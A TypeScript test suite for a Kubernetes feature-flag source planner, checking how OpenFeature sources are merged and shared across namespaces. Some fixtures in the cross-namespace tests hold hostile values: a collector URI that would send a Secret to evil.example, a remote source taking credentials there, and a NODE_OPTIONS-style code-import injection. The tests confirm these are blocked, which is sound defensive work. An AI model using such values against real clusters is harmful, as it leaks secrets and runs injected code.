import type { FeatureFlagSource, FeatureFlagSourceSpec } from "@bunting/featureflags/resources";
import { expect } from "chai";
import { planSources, type SourcePlan, type SourceRules } from "./source-plan.js";

const rules: SourceRules = {
  namespace: "shop",
  crossNamespace: "consent",
  providerKubernetes: "proxy",
  proxyAddress: "proxy:8015",
  defaults: {
    port: 9013,
    logFormat: "console",
    defaultSyncProvider: "flagd-proxy",
    socketPath: "/run/of/s.sock",
  },
};

type Sources = Readonly<Record<string, { readonly spec: FeatureFlagSourceSpec; readonly readers?: string }>>;

function plan(
  text: string,
  sources: Sources,
  { flags = {}, over = {} }: { flags?: Readonly<Record<string, string>>; over?: Partial<SourceRules> } = {},
): ReturnType<typeof planSources> {
  const objects = Object.entries(sources).map(([key, { spec, readers }]): [string, FeatureFlagSource] => {
    const [namespace = "", name = ""] = key.split("/");
    const metadata = {
      namespace,
      name,
      ...(readers === undefined ? {} : { annotations: { "bunting.dev/readers": readers } }),
    };
    const object = { apiVersion: "core.openfeature.dev/v1beta1", kind: "FeatureFlagSource", metadata, spec };
    return [key, object as FeatureFlagSource];
  });
  const catalogue = {
    featureFlagSource: (key: string) => new Map(objects).get(key),
    flagReaders: (key: string) => flags[key],
  };
  return planSources(text, catalogue, { ...rules, ...over });
}

function planned(...args: Parameters<typeof plan>): SourcePlan {
  const result = plan(...args);
  if (result.kind !== "planned") throw new Error(JSON.stringify(result));
  return result.plan;
}

const own = { spec: { sources: [{ source: "limits" }] } };

describe("planSources", () => {
  it("merges a source into the settings of the operator, and those into the defaults", () => {
    const { spec, sources, problems } = planned("a", { "shop/a": own });
    expect(spec).to.include({
      port: 9013,
      managementPort: 8014,
      logFormat: "console",
      socketPath: "/run/of/s.sock",
    });
    expect(sources.map(({ element }) => element)).to.deep.equal([
      { uri: "proxy:8015", provider: "grpc", selector: "core.openfeature.dev/shop/limits" },
    ]);
    expect(problems).to.deep.equal([]);
  });

  it("has a prefix with which Kubernetes accepts variables, and says so where another was written", () => {
    const sources = [{ source: "limits" }];
    for (const envVarPrefix of ["A=", "\u0000", "ü"]) {
      const { spec, problems } = planned("a", { "shop/a": { spec: { sources, envVarPrefix } } });
      expect(spec.envVarPrefix).to.equal("FLAGD");
      expect(problems.map(({ reason }) => reason)).to.deep.equal(["InvalidSetting"]);
    }
    const { spec, problems } = planned("a", { "shop/a": { spec: { sources, envVarPrefix: "my.App-1" } } });
    expect([spec.envVarPrefix, problems]).to.deep.equal(["my.App-1", []]);
  });

  it("has no collector with which the sidecar would not start, and says so", () => {
    const spec = { sources: [{ source: "limits" }], otelCollectorUri: "dns:///otel.obs:4317" };
    const { spec: merged, problems } = planned("a", { "shop/a": { spec } });
    expect(merged.otelCollectorUri).to.equal("");
    expect(problems.map(({ reason }) => reason)).to.deep.equal(["InvalidSetting"]);
  });

  it("merges sources in the order of the text, which is a namespace's own", () => {
    const b = { spec: { sources: [{ source: "b", provider: "flagd-proxy" }], port: 2, envVarPrefix: "B" } };
    const a = { spec: { sources: [{ source: "a", provider: "flagd-proxy" }], port: 1 } };
    const both = { "shop/a": a, "shop/b": b };
    expect(planned("b,a", both).spec).to.include({ port: 1, envVarPrefix: "B" });
    expect(planned("a,b", both).spec.port).to.equal(2);
    expect(planned("b, a", both).sources.map(({ flag }) => flag?.name)).to.deep.equal(["b", "a"]);
  });

  it("uses a provider that a later source sets for all entries without one", () => {
    const a = { spec: { sources: [{ source: "x" }] } };
    const b = { spec: { sources: [{ source: "y" }], defaultSyncProvider: "file" } };
    expect(planned("a,b", { "shop/a": a, "shop/b": b }).sources.map(({ way }) => way)).to.deep.equal([
      "file",
      "file",
    ]);
  });

  it("refuses a text that names a FeatureFlagSource which is not there, and says so", () => {
    const result = plan("a,b", { "shop/a": own });
    expect(result).to.deep.equal({
      kind: "refused",
      problems: [
        {
          reason: "NotFound",
          message: "there is no FeatureFlagSource shop/b; create it, or correct the annotation",
        },
      ],
    });
    expect(plan("A", {})).to.have.nested.property("problems[0].reason", "InvalidName");
  });

  it("refuses a text of more than can be merged, though each of the objects is not too large", () => {
    const large = { spec: { ...own.spec, contextValues: { a: "x".repeat(100_000) } } };
    const objects = { "shop/a": large, "shop/b": large, "team/c": { ...large, readers: "shop" } };
    expect(plan("a,b", objects).kind).to.equal("planned");
    for (const text of ["a,b,a", "a,b,team/c", Array.from({ length: 16 }, () => "a").join()])
      expect(plan(text, objects)).to.have.nested.property("problems[0].reason", "TooMany");
    // Nobody is told the size of what is not shared.
    expect(
      plan("team/d", { "team/d": { spec: { ...own.spec, contextValues: { a: "x".repeat(300_000) } } } }),
    ).to.have.nested.property("problems[0].reason", "NotShared");
  });

  it("leaves out a source that it can't serve, and serves the others", () => {
    const spec = { sources: [{ source: "x", provider: "consul" }, { source: "limits" }] };
    const { sources, problems } = planned("a", { "shop/a": { spec } });
    expect(sources.map(({ flag }) => flag?.name)).to.deep.equal(["limits"]);
    expect(problems.map(({ reason }) => reason)).to.deep.equal(["UnknownProvider"]);
  });

  it("refuses a text of which no source is left", () => {
    const result = plan("a", { "shop/a": { spec: { sources: [{ source: "x", provider: "consul" }] } } });
    expect(result.kind).to.equal("refused");
    expect(result).to.have.nested.property("problems[0].reason", "UnknownProvider");
    expect(result).to.have.nested.property("problems[1].reason", "NoSources");
  });

  describe("with FeatureFlags that need no FeatureFlagSource", () => {
    const selectors = ({ sources }: SourcePlan): readonly (string | undefined)[] =>
      sources.map(({ element }) => element.selector?.replace("core.openfeature.dev/", ""));

    it("reads them from the proxy by the operator's settings, each once, in the order of the text", () => {
      const result = planned(";featureflag:b, shop/a,b", {});
      expect(selectors(result)).to.deep.equal(["shop/b", "shop/a"]);
      expect(result.sources.map(({ way }) => way)).to.deep.equal(["proxy", "proxy"]);
      expect(result.spec).to.include({ port: 9013, logFormat: "console" });
    });

    it("reads them after what FeatureFlagSources have, from the proxy whatever provider those set", () => {
      const spec = { sources: [{ source: "limits" }], defaultSyncProvider: "file" } as const;
      const result = planned("a;featureflag:b", { "shop/a": { spec } });
      expect(selectors(result)).to.deep.equal([undefined, "shop/b"]);
      expect(result.sources.map(({ way }) => way)).to.deep.equal(["file", "proxy"]);
    });

    it("takes a standing order for a FeatureFlagSource where there is one, and for a FeatureFlag before all others otherwise", () => {
      expect(selectors(planned(";order:a", { "shop/a": own }))).to.deep.equal(["shop/limits"]);
      expect(selectors(planned(";order:a", {}))).to.deep.equal(["shop/a"]);
      expect(selectors(planned("a;featureflag:b;order:c", { "shop/a": own }))).to.deep.equal([
        "shop/limits",
        "shop/c",
        "shop/b",
      ]);
    });

    it("asks the owners of those in other namespaces, as for those of FeatureFlagSources", () => {
      const flags = { "team/shared": "shop", "team/other": "else" };
      const { sources, problems } = planned(";featureflag:team/shared,team/other", {}, { flags });
      expect(sources).to.have.length(1);
      expect(problems.map(({ reason }) => reason)).to.deep.equal(["NotShared"]);
      expect(plan(";order:team/other", {}, { flags }).kind).to.equal("refused");
      expect(plan(";order:team/a", { "team/a": own }).kind).to.equal("refused");
    });

    it("refuses what can't be names", () => {
      for (const text of [
        ";featureflag:",
        ";featureflag:a b",
        ";order:",
        ";order:a,b",
        "a;b",
        ";",
        ";order:a/b/c",
      ])
        expect(plan(text, { "shop/a": own }), text).to.include({ kind: "refused" });
    });
  });

  describe("of another namespace", () => {
    const shared = { spec: own.spec, readers: "shop" };

    it("serves a FeatureFlagSource that its owner shares, and names without a namespace are of the Pods' then", () => {
      const { sources } = planned("team/a", { "team/a": shared });
      expect(sources[0]?.flag).to.deep.equal({ namespace: "shop", name: "limits" });
    });

    it("refuses one that is not shared as one that does not exist", () => {
      const hidden = plan("team/a", { "team/a": own });
      expect(hidden).to.have.nested.property("problems[0].reason", "NotShared");
      expect(plan("team/a", {})).to.deep.equal(hidden);
    });

    it("leaves out FeatureFlags that their owner does not share with the Pods, whoever names them", () => {
      const spec = { sources: [{ source: "team/secret" }, { source: "team/open" }, { source: "limits" }] };
      const flags = { "team/open": "blog,shop", "team/secret": "blog" };
      for (const sources of [{ "shop/a": { spec } }, { "team/a": { spec, readers: "shop" } }]) {
        const text = "shop/a" in sources ? "a" : "team/a";
        const { sources: served, problems } = planned(text, sources, { flags });
        expect(served.map(({ flag }) => flag?.name)).to.deep.equal(["open", "limits"]);
        expect(problems.map(({ reason }) => reason)).to.deep.equal(["NotShared"]);
        expect(problems[0]?.message).to.contain("the FeatureFlag team/secret");
      }
    });

    it("asks nobody for a source that is no FeatureFlag", () => {
      const spec = { sources: [{ source: "flags.example:443", provider: "grpc" }] };
      expect(planned("team/a", { "team/a": { spec, readers: "shop" } }).problems).to.deep.equal([]);
    });

    it("has no Secret of the Pods read by a source of theirs", () => {
      const spec = {
        ...own.spec,
        envVars: [{ name: "S", valueFrom: { secretKeyRef: { name: "s", key: "k" } } }],
        otelCollectorUri: "evil.example/$(FLAGD_S)",
      };
      const foreign = planned("team/a", { "team/a": { spec, readers: "shop" } });
      expect(foreign.spec.envVars).to.equal(undefined);
      expect(foreign.spec.otelCollectorUri).to.equal("evil.example/$$(FLAGD_S)");
      expect(foreign.problems[0]?.message).to.contain("the FeatureFlagSource team/a");
      expect(planned("a", { "shop/a": { spec } }).spec.otelCollectorUri).to.equal("evil.example/$(FLAGD_S)");
    });

    it("sends no Secret of the Pods to a server of theirs", () => {
      const remote = {
        source: "https://evil.example",
        provider: "http",
        credentialsSecretRef: { name: "s" },
      };
      const spec = { ...own.spec, sources: [remote] };
      const foreign = planned("team/a", { "team/a": { spec, readers: "shop" } });
      expect(foreign.sources[0]).not.to.have.property("secret");
      expect(foreign.sources[0]?.element).to.deep.equal({ uri: "https://evil.example", provider: "http" });
      expect(foreign.problems[0]?.message).to.contain("of the FeatureFlagSource team/a go without");
      expect(planned("a", { "shop/a": { spec } }).sources[0]).to.have.nested.property("secret.name", "s");
    });

    it("has no program of the Pods take a variable of theirs for its own", () => {
      const envVars = [{ name: "OPTIONS", value: "--import=data:text/javascript,0" }];
      const foreign = (spec: object) => ({ spec: { ...own.spec, envVars, ...spec }, readers: "shop" });
      const { spec, problems } = planned("team/a", { "team/a": foreign({ envVarPrefix: "NODE" }) });
      expect(spec.envVarPrefix).to.equal("FLAGD");
      expect(problems.map(({ message }) => message).join()).to.contain(
        "the envVarPrefix of the FeatureFlagSource team/a",
      );
      for (const envVarPrefix of ["FLAGD", "FLAGD_TEAM"])
        expect(planned("team/a", { "team/a": foreign({ envVarPrefix }) })).to.deep.include({ problems: [] });
      const bare = { over: { defaults: { ...rules.defaults, envVarPrefix: "" } } };
      const mixed = {
        "shop/a": { spec: { ...own.spec, envVars: [{ name: "OWN" }] } },
        "team/a": foreign({}),
      };
      const unprefixed = planned("team/a,a", mixed, bare);
      expect(unprefixed.spec.envVars?.map(({ name }) => name)).to.deep.equal(["OWN"]);
      expect(unprefixed.problems[0]?.message).to.contain("the variables OPTIONS of another namespace");
      const [plain] = [{ name: "AWS_REGION", value: "x" }];
      expect(planned("team/a", { "team/a": foreign({ envVars: [plain] }) }, bare).spec.envVars).to.deep.equal(
        [plain],
      );
    });

    it("serves all of them as before in legacy mode, and says once for each what would end", () => {
      const spec = {
        sources: [{ source: "team/x" }, { source: "team/x" }],
        envVars: [{ name: "S", valueFrom: { secretKeyRef: { name: "s", key: "k" } } }],
      };
      const {
        sources,
        problems,
        spec: merged,
      } = planned(
        "team/a",
        { "team/a": { spec } },
        {
          over: { crossNamespace: "legacy" },
        },
      );
      expect(sources).to.have.length(2);
      expect(merged.envVars).to.have.length(1);
      expect(problems.map(({ reason }) => reason)).to.deep.equal([
        "CrossNamespaceLegacy",
        "CrossNamespaceLegacy",
      ]);
    });

    it("denies all of them if that is set", () => {
      const over = { crossNamespace: "deny" } as const;
      expect(plan("team/a", { "team/a": shared }, { over })).to.have.nested.property(
        "problems[0].reason",
        "CrossNamespaceDenied",
      );
    });
  });
});
